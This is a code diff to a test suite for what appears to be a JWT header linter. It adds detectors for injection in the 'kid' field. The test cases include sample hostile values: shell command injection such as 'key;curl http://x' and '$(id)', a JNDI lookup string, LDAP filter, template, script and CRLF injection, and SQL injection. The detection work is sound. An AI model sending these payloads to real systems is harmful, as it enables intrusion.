@@ -10,11 +10,13 @@ import { PATTERNS as TEMPLATE } from './rules/claims/claim-template-unresolved.t
 import { PATTERNS as PRIVATE_KEY } from './rules/claims/payload-private-key.ts';
 import { PATTERNS as WILDCARD } from './rules/claims/scope-values.ts';
 import { ACTIVE, INTERNAL } from './rules/claims/telling-texts.ts';
+import { PATTERNS as PUBLIC_NAME } from './rules/header/hs-kid-looks-asymmetric.ts';
+import { PATTERNS as INJECTIONS } from './rules/header/kid-injection.ts';
 import { PATTERNS as PATH } from './rules/header/kid-path-traversal.ts';
 import { BAD_DASHES, ESCAPED, ON_ONE_LINE } from './rules/keys/pem.ts';
-import { PATTERNS as SQL } from './rules/header/kid-sql-injection.ts';
 import { vendorSecret } from './vendor-secrets.ts';
 
+const injection = (id: string): readonly RegExp[] => INJECTIONS.get(id) ?? [];
 const any =
   (patterns: readonly RegExp[]) =>
   (text: string): boolean =>
@@ -49,7 +51,7 @@ describe.each([
   },
   {
     name: 'kid-sql-injection',
-    matches: any(SQL),
+    matches: any(injection('kid-sql-injection')),
     yes: [
       "x' UNION SELECT '1';-- ",
       "' or 1=1",
@@ -68,6 +70,56 @@ describe.each([
       'union-select-2',
       "l'orange key",
       'android-1',
+    ],
+  },
+  {
+    name: 'kid-command-injection',
+    matches: any(injection('kid-command-injection')),
+    yes: [
+      '|sleep 10',
+      '| id',
+      'key;curl http://x',
+      'k && ping 1.1.1.1',
+      '$(id)',
+      '`id`',
+      'x|whoami',
+    ],
+    no: ['key|2024', 'tenant|id', 'a&b', '$key', 'cat|dog', 'k;v', 'auth0|cat'],
+  },
+  {
+    name: 'kid-other-injection',
+    matches: any(injection('kid-other-injection')),
+    yes: [
+      '*)(uid=*',
+      '${jndi:ldap://x/a}',
+      '{{7*7}}',
+      '<script>alert(1)</script>',
+      'a\r\nX: y',
+      '<%= 1 %>',
+    ],
+    no: [
+      '{3f2504e0-4f89-11d3-9a0c-0305e82c3301}',
+      '{{3f2504e0-4f89-11d3-9a0c-0305e82c3301}}',
+      'key(1)',
+      'a<b',
+    ],
+  },
+  {
+    name: 'hs-kid-looks-asymmetric',
+    matches: any(PUBLIC_NAME),
+    yes: [
+      'rsa-2024-01',
+      'key_RS256',
+      'my.public.key',
+      'nOo3ZDrODXEK1jKWhXslHR_KXEg',
+      'NOO3ZDRODXEK1JKWHXSLHR_KXEG',
+    ],
+    no: [
+      'hs-2024-01',
+      'secret-1',
+      'recover',
+      'publisher',
+      'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs',
     ],
   },
   {
@@ -281,9 +333,10 @@ it('stays quick on long text', () => {
   for (const piece of ['{{', '{{a', '${a', '<%', '<your-', '<your-a', '%A']) {
     any(TEMPLATE)(piece.repeat(16_384 / piece.length));
   }
-  for (const text of ["'".repeat(16_384), '../'.repeat(5_000), ' '.repeat(16_384)]) {
+  for (const piece of ["'", '../', ' ', '{{', '${', '$(', '`a', '; ', '|', '*) ', '<%']) {
+    const text = piece.repeat(16_384 / piece.length);
     any(PATH)(text);
-    any(SQL)(text);
+    for (const patterns of INJECTIONS.values()) any(patterns)(text);
     any(PRIVATE_KEY)(`-----BEGIN ${'A '.repeat(8_000)}`);
     any([BAD_DASHES, ESCAPED, ON_ONE_LINE])(`${'-'.repeat(8_000)}BEGIN ${'A '.repeat(4_000)}`);
   }
